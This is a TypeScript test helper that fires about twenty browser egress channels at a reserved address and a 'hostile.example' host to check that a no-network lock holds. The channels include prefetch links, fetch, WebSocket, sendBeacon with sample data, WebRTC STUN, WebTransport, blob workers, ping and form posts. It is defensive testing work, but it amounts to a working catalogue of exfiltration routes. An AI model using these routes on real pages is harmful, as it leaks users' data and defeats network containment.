// Owns the ways by which a page can have Chromium send something, for pages in which each of them is tried: every one that
// is known to pass one of the usual locks (docs/adr/0026-no-network.md). What leaves is told apart by its port or name.

/** Where a way leads: a port at an address that is kept for examples (RFC 5737), and a name under `.example` (RFC 2606). */
export const ADDRESS = '198.51.100.7';
export const FIRST_PORT = 20_000;
export const NAME_END = 'hostile.example';

/** In the order of their ports: the first has FIRST_PORT. */
export const WAYS = [
  'dns-prefetch',
  'preconnect',
  'prefetch',
  'stylesheet',
  'icon',
  'img',
  'iframe',
  'video',
  'object',
  'css-url',
  'fetch',
  'xhr',
  'websocket',
  'eventsource',
  'beacon',
  'webrtc',
  'webtransport',
  'blob-worker',
  'window-open',
  'ping',
  'form',
  'spelling',
  'navigation',
] as const;

export interface Places {
  readonly ways: readonly string[];
  readonly address: string;
  readonly firstPort: number;
  readonly nameEnd: string;
}

export const PLACES: Places = { ways: WAYS, address: ADDRESS, firstPort: FIRST_PORT, nameEnd: NAME_END };

/**
 * Tries every way, by address and by name, and gives what the page noticed of each. It runs in the page, so it may use
 * nothing from outside of itself. The last way navigates, after which an open page is gone.
 */
export const tryEveryWay = async (places: Places): Promise<Record<string, string>> => {
  const noticed: Record<string, string> = {};
  const targets = (way: string): readonly string[] => [
    `${places.address}:${String(places.firstPort + places.ways.indexOf(way))}`,
    `${way}.${places.nameEnd}`,
  ];
  const attempt = (way: string, act: (target: string) => unknown): void => {
    for (const target of targets(way)) {
      try {
        const said = act(target);
        noticed[way] ??= 'tried';
        if (said instanceof Promise) said.catch((error: unknown) => (noticed[way] = `refused: ${String(error)}`));
        else if (typeof said === 'string') noticed[way] = said;
      } catch (error) {
        noticed[way] = `refused: ${String(error)}`;
      }
    }
  };
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const link = (rel: string) => (target: string) => add('link', { rel, href: `http://${target}/${rel}` });
  attempt('dns-prefetch', link('dns-prefetch'));
  attempt('preconnect', link('preconnect'));
  attempt('prefetch', link('prefetch'));
  attempt('stylesheet', link('stylesheet'));
  attempt('icon', link('icon'));
  attempt('img', (target) => add('img', { src: `http://${target}/i.png` }));
  attempt('iframe', (target) => add('iframe', { src: `http://${target}/` }));
  attempt('video', (target) => add('video', { src: `http://${target}/v.mp4`, preload: 'auto' }));
  attempt('object', (target) => add('object', { data: `http://${target}/o` }));
  attempt('css-url', (target) => (add('p', {}).style.backgroundImage = `url(http://${target}/c.png)`));
  attempt('fetch', (target) => fetch(`http://${target}/`, { mode: 'no-cors' }));
  attempt('xhr', (target) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${target}/`);
    request.send();
  });
  attempt('websocket', (target) => new WebSocket(`ws://${target}/`));
  attempt('eventsource', (target) => new EventSource(`http://${target}/`));
  attempt('beacon', (target) => String(navigator.sendBeacon(`http://${target}/`, 'names of people')));
  attempt('webrtc', (target) => {
    const urls = [`stun:${target.includes(':') ? target : `${target}:3478`}`];
    const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
    connection.createDataChannel('x');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  });
  attempt('webtransport', (target) => {
    const transport = new WebTransport(`https://${target.includes(':') ? target : `${target}:443`}/`);
    return transport.ready;
  });
  attempt('blob-worker', (target) => {
    const code = `fetch('http://${target}/', { mode: 'no-cors' })`;
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  });
  attempt('window-open', (target) => (window.open(`http://${target}/`) === null ? 'refused: null' : 'opened'));
  attempt('ping', (target) => {
    const anchor = add('a', { href: '#here', ping: `http://${target}/` });
    anchor.click();
  });
  attempt('form', (target) => {
    const form = add('form', { action: `http://${target}/`, method: 'post', target: '_blank' });
    if (form instanceof HTMLFormElement) form.submit();
  });
  attempt('spelling', () => {
    const field = add('textarea', { spellcheck: 'true', lang: 'en-GB' });
    field.focus();
    document.execCommand('insertText', false, 'a mispelled wrod ');
  });
  await new Promise((done) => setTimeout(done, 1500));
  attempt('navigation', (target) => {
    location.href = `http://${target}/`;
  });
  await new Promise((done) => setTimeout(done, 1500));
  return noticed;
};
